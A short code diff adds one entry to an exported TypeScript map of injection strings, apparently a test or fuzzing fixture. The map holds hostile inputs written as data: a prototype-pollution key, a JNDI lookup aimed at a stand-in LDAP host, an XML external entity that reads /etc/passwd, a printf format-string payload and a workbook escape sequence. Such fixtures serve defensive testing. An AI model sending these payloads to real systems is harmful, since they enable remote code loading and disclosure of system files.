@@ -50,5 +50,6 @@ export const injections: Readonly<Record<string, string>> = {
   'a name every object has': '__proto__',
   'a look-up of a logger': '$' + '{jndi:ldap://example.invalid/a}',
   'an entity': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
+  'an escape of a workbook': '_x0041_甲_x001B_',
   'a format of printf': '%s%n%x%d',
 }
